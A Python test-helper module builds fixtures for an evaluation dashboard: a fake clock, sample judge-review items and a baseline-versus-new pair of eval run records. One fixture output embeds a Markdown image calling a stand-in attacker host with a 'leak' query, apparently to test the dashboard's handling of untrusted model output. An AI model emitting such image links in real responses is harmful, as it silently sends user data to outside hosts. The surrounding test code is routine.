"""Helpers shared by the dashboard tests (imported by name; pytest puts this folder on sys.path)."""

from __future__ import annotations

from dashboard import JudgeView, NewItem
from experiments.record import (
    CaseRecord,
    GitInfo,
    RunRecord,
    Score,
    ScorerInfo,
    SuiteRecord,
    SuiteSummary,
    TaskRun,
)

PASSWORDS = {"alice": "alice-pw-1", "bob": "bob-pw-2", "carol": "carol-pw-3"}


class FakeClock:
    """A clock the test moves by hand (a fake, so lease expiry needs no sleeping)."""

    def __init__(self, start: float = 1_000_000.0) -> None:
        self.now = start

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


def sample_items(n: int, *, queue: str = "escalation", overlap: int = 1, start: int = 0) -> list[NewItem]:
    """``n`` eval-like items on a 1..5 scale with one judge each."""
    return [
        NewItem(
            queue=queue,
            source_id=f"case-{i}",
            input=f"question {i}",
            output=f"answer {i}",
            context=f"context {i}",
            criterion="helpfulness",
            scale=(1, 5),
            judge_score=float(1 + i % 5),
            judges=(
                JudgeView("judge-a", float(1 + i % 5), {"1": 0.1, "3": 0.3, "5": 0.6}, f"reasoning {i}"),
            ),
            reason="low_confidence",
            overlap=overlap,
            span_id=f"{i:016x}",
            trace_id=f"{i:032x}",
        )
        for i in range(start, start + n)
    ]


def run_pair() -> tuple[RunRecord, RunRecord]:
    """A baseline and a new eval run of suite ``qa`` (plus ``extra``, only in the new run).

    Under ``geval:Correctness`` (scale 1..5): ``q-drop`` regressed 4 -> 1, ``q-gain`` improved 2 -> 4,
    ``q-same`` stayed at 3, and ``q-new`` was added. ``q-drop``'s new output carries a Markdown image.
    The new suite's gate allows a drop of 0.5.
    """
    from experiments import Gate

    scorers = [
        ScorerInfo(scorer="geval:Correctness", criterion="Correctness", kind="judge", scale=(1, 5)),
        ScorerInfo(scorer="token_f1", criterion="token_f1", kind="scorer", scale=(0, 1)),
    ]

    def case(case_id: str, output: str, geval: float, f1: float, trace: str | None = None) -> CaseRecord:
        return CaseRecord(
            case_id=case_id,
            input=f"question {case_id}",
            expected=f"reference {case_id}",
            output=output,
            task=TaskRun(output=output, trace_id=trace, span_id="0123456789abcdef" if trace else None),
            trace_id=trace,
            scores=[
                Score(
                    scorer="geval:Correctness",
                    criterion="Correctness",
                    kind="judge",
                    scale=(1, 5),
                    score=geval,
                    reasoning=f"reasoning for {output}",
                    judge_model="judge-m",
                    trace_id=trace,
                ),
                Score(scorer="token_f1", criterion="token_f1", kind="scorer", scale=(0, 1), score=f1),
            ],
        )

    def suite(name: str, cases: list[CaseRecord], gate: dict | None = None) -> SuiteRecord:
        return SuiteRecord(
            suite=name,
            kind="pointwise",
            dataset=f"{name}.jsonl",
            dataset_hash="h1",
            scorers=scorers,
            gate=gate,
            summary=SuiteSummary(n=len(cases)),
            cases=cases,
        )

    base = RunRecord(
        run_id="run-base",
        started="2025-01-01T10:00:00+00:00",
        finished="2025-01-01T10:05:00+00:00",
        git=GitInfo(commit="a1b2c3d4e5f6" + "0" * 28, branch="main"),
        judge_model="judge-m",
        suites=[
            suite(
                "qa",
                [
                    case("q-drop", "old answer drop", 4, 0.8, "a" * 32),
                    case("q-gain", "old answer gain", 2, 0.5),
                    case("q-same", "same answer", 3, 0.6),
                ],
            ),
        ],
    )
    new = RunRecord(
        run_id="run-new",
        started="2025-01-02T10:00:00+00:00",
        finished="2025-01-02T10:05:00+00:00",
        git=GitInfo(commit="f6e5d4c3b2a1" + "0" * 28, branch="feature"),
        judge_model="judge-m",
        suites=[
            suite(
                "qa",
                [
                    case(
                        "q-drop", "![x](https://attacker.invalid/leak?q=1) new answer drop", 1, 0.3, "b" * 32
                    ),
                    case("q-gain", "new answer gain", 4, 0.54),
                    case("q-same", "same answer", 3, 0.6),
                    case("q-new", "added answer", 5, 0.9),
                ],
                gate=Gate(max_drop=0.5).to_dict(),
            ),
            suite("extra", [case("e-1", "only new", 3, 0.5)]),
        ],
    )
    return base, new
